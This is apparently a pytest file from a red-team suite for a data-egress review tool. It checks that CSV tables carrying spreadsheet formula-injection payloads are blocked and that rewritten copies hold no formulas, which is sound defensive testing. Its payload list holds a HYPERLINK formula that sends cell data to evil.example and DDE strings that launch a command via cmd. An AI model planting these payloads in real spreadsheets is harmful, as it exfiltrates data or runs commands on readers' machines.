"""Have the reader's spreadsheet run a formula of a released table.

Way: submission
Control: the table as it was written
Held by: a cell that begins as a formula blocks the file, and the canonical form has none
"""

import csv

import pytest

from egress_review.store import Store
from tests.redteam import submitting

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|'x'!A0",
)


def is_formula(cell: str) -> bool:
    return cell[:1] in "=+@-\t\r" and not cell.lstrip("+-").replace(".", "", 1).isdigit()


def table(formula: str) -> str:
    quoted = formula.replace('"', '""')
    return f'group,n\n"{quoted}",120\nothers,135\n'


def test_control_it_is_there_as_it_was_written(enclave, inside) -> None:
    name = f"{submitting.fresh()}.csv"
    submitting.write(inside, name, table(FORMULAS[0]))
    with (submitting.workspace(enclave) / name).open(newline="") as file:
        assert any(is_formula(cell) for row in csv.reader(file) for cell in row)


@pytest.mark.parametrize("formula", FORMULAS)
def test_it_does_not_leave(enclave, inside, formula) -> None:
    name = f"{submitting.fresh()}.csv"
    submitting.write(inside, name, table(formula))
    (kept,) = submitting.submit(enclave, submitting.draft(enclave, name))
    assert kept.verdict == "block"
    if kept.rewrite_sha256:
        text = Store(enclave.settings.store).read(kept.rewrite_sha256).decode()
        assert not any(is_formula(cell) for row in csv.reader(text.splitlines()) for cell in row), text
